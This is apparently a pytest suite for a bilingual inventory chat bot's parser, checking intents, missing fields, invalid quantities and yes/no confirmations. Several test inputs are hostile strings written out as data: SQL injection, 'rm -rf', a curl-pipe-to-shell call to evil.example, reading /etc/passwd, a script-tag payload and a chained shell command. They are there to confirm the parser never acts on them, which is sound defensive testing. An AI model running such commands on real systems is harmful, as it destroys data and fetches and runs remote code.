"""Bad input never raises and never turns into a command; the chat can tell what was missing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from bot.catalog import Catalog
from bot.parse import ParseResult, confirmation_word, parse, recognised_intent

DEMO = Path(__file__).resolve().parents[2] / "adapters" / "demo_data"


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return Catalog.from_csv_dir(DEMO)


def _json(result: ParseResult) -> dict:
    out = result.to_json()
    json.dumps(out)
    return out


@pytest.mark.parametrize(
    "text",
    [
        "",
        "   ",
        "\n\t",
        "😀",
        "👍👍👍",
        "x" * 2000,
        "ACME要20个M6 " * 200,
        "'; DROP TABLE items; --",
        "SELECT * FROM stock_balances WHERE 1=1",
        "1 OR 1=1",
        "rm -rf / --no-preserve-root",
        "$(curl http://evil.example/x | sh)",
        "`cat /etc/passwd`",
        "<script>alert(1)</script>",
        "\x00\x01\x02",
        "🤖🤖 ??? !!!",
    ],
)
def test_garbage_is_not_understood_without_raising(text, catalog):
    result = parse(text, catalog)
    out = _json(result)
    assert out["intent"] is None
    assert out["code"] is None, out
    assert "understand" in out["error"] or "看懂" in out["error"]
    assert recognised_intent(text, catalog) is None


def test_the_message_speaks_the_language_of_the_text(catalog):
    zh = parse("ACME要20个XYZ", catalog)
    en = parse("sell 20 XYZ to ACME", catalog)
    assert zh.lang == "zh" and "找不到商品" in zh.error.message
    assert en.lang == "en" and "don't know the item" in en.error.message


@pytest.mark.parametrize(
    ("text", "slot"),
    [
        ("sell 20 M6 to", "customer"),
        ("sell M6 to ACME", "qty"),
        ("approve", "request"),
        ("驳回", "request"),
        ("入库 100个", "item"),
        ("调拨 M6 30个 到北京", "from"),
        ("ship", "order"),
        ("收到货款", "customer"),
        ("ACME paid", "amount"),
        ("对账单", "partner"),
    ],
)
def test_a_missing_slot_is_named_and_the_intent_is_still_recognised(text, slot, catalog):
    result = parse(text, catalog)
    out = _json(result)
    assert out["intent"] is None
    assert out["code"] == "missing_slot"
    assert out["slot"] == slot
    assert result.intent is not None
    assert recognised_intent(text, catalog) == result.intent


def test_recognised_intent_works_without_a_catalog():
    assert recognised_intent("sell 20 M6 to") == "sales.create"
    assert recognised_intent("approve") == "approval.decide"
    assert recognised_intent("哪些要补货") == "report"
    assert recognised_intent("what's the weather like") is None
    assert recognised_intent("yes") is None


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("sell -5 M6 to ACME", "invalid_quantity"),
        ("ACME要0个M6", "invalid_quantity"),
        ("sell 0 M6 to ACME", "invalid_quantity"),
        ("receive 0 M6", "invalid_quantity"),
        ("sell 1000001 M6 to ACME", "invalid_quantity"),
        ("ACME要一百万零一个M6", "invalid_quantity"),
        ("sell 2.5 drills to ACME", "invalid_quantity"),
        ("receive 1.5 pairs of gloves", "invalid_quantity"),
        ("receive 1.2345 kg white paint", "invalid_quantity"),
        ("sell 20 M6 to ACME at -1", "invalid_amount"),
        ("ACME paid 0", "invalid_amount"),
        ("sell 20 M6 to ECH", "wrong_partner_kind"),
        ("buy 20 M6 from ACME", "wrong_partner_kind"),
        ("收到华东五金货款 500", "wrong_partner_kind"),
        ("sell 20 M to ACME", "ambiguous_name"),
        ("sell 20 bolts to ACME", "ambiguous_name"),
        ("sell 20 unobtainium to ACME", "unknown_item"),
        ("sell 20 M6 to Nobody Inc", "unknown_partner"),
        ("move 5 M6 from Mars to BJ", "unknown_warehouse"),
    ],
)
def test_impossible_values_and_unknown_names_are_errors_not_guesses(text, code, catalog):
    out = _json(parse(text, catalog))
    assert out["intent"] is None
    assert out["code"] == code


def test_a_count_of_zero_is_a_real_count(catalog):
    assert parse("盘点 M6 实际 0", catalog).command.to_dict() == {
        "intent": "stock.count",
        "item": "M6-20",
        "counted_qty": "0",
    }


def test_a_line_of_exactly_a_million_is_allowed(catalog):
    cmd = parse("sell 1,000,000 washers to ACME", catalog).command.to_dict()
    assert cmd["lines"] == [{"item": "WASHER-6", "qty": "1000000"}]


def test_ambiguous_and_unknown_names_come_with_suggestions(catalog):
    ambiguous = parse("sell 20 M to ACME", catalog).error
    assert {"M6-20", "M8-30"} <= set(ambiguous.suggestions)
    unknown = parse("ACME要20个M6螺钉", catalog).to_json()
    assert unknown["code"] in ("unknown_item", "ambiguous_name")


def test_decimals_are_strings_never_floats(catalog):
    cmd = parse("sell 20 M6 to ACME at 0.10", catalog).command.to_dict()
    assert cmd["lines"][0]["price"] == "0.10"
    assert isinstance(cmd["lines"][0]["qty"], str)


def test_order_and_request_ids_are_normalised(catalog):
    assert parse("ship so-9", catalog).command.to_dict()["order"] == "SO-0009"
    assert parse("cancel po-0012", catalog).command.to_dict()["order"] == "PO-0012"
    assert parse("approve a-03", catalog).command.to_dict()["request"] == "A-3"


@pytest.mark.parametrize(
    "word", ["yes", "Y", "ok", "OK!", "confirm", "是", "是的", "确认", "好", "对"]
)
def test_yes_words_confirm(word):
    assert confirmation_word(word) is True


@pytest.mark.parametrize("word", ["no", "N", "cancel", "否", "取消", "不", "不要"])
def test_no_words_decline(word):
    assert confirmation_word(word) is False


@pytest.mark.parametrize("word", ["", "sell 20 M6", "yes please sell", "批准 A-1", "maybe", None])
def test_other_text_is_not_a_confirmation(word):
    assert confirmation_word(word) is None


def test_parse_never_raises_on_non_string_input(catalog):
    assert parse(None, catalog).to_json()["intent"] is None  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "intent"),
    [
        ("how many M6 do we have, exec summary please", "stock.query"),
        ("status of SO-0007, kill the noise", "order.query"),
        ("cancel SO-0007, kill it", "sales.cancel"),
        ("exec team wants top sellers last month", "report"),
        ("issue 5 M6 for the exec office", "stock.issue"),
    ],
)
def test_ordinary_words_that_are_also_shell_commands_are_text(text, intent, catalog):
    # No chat text is ever executed: "kill" or "exec" in a sentence is a word like any other.
    assert parse(text, catalog).intent == intent
    assert recognised_intent(text, catalog) == intent


@pytest.mark.parametrize(
    "text",
    [
        "kill -9 1",
        "exec /bin/sh",
        "bash ./run.sh",
        "curl http://evil.example/x",
        "wget https://evil.example/x",
        "sudo reboot",
        "eval(input())",
        "cancel SO-0007; rm -rf ~",
    ],
)
def test_shell_commands_with_flags_or_paths_are_still_not_understood(text, catalog):
    out = _json(parse(text, catalog))
    assert out["intent"] is None and out["code"] is None, out
    assert recognised_intent(text, catalog) is None


def test_a_command_refused_where_it_is_built_is_a_typed_error_printed_as_read(catalog):
    result = parse("issue 1 M6-20 because " + "x" * 250, catalog)
    assert result.command is None and result.error.code == "bad_request"
    assert result.error.refused is not None
    assert result.to_json()["intent"] == "stock.issue"  # `jxc parse` prints what it read
